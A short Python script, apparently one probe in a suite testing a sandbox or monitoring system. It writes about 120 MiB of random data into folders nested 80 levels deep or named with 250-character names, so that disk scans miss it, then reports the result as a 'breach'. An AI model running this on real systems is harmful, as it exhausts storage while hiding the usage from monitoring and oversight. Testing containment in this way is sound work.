"""Fills the disk in folders that are nested so deep, or named so long, that they are not looked at."""

import os
import time

from attack import breach, facts

block, total = os.urandom(1 << 20), 0
for name, levels in (("d", 80), ("n" * 250, 20)):
    os.chdir(facts["out"])
    for _ in range(levels):
        os.mkdir(name)
        os.chdir(name)
    for number in range(20):
        with open(str(number), "wb", buffering=0) as stream:
            for _ in range(3):
                total += stream.write(block)
        time.sleep(0.05)
breach(f"{total >> 20} MiB lie deeper than anybody looks")
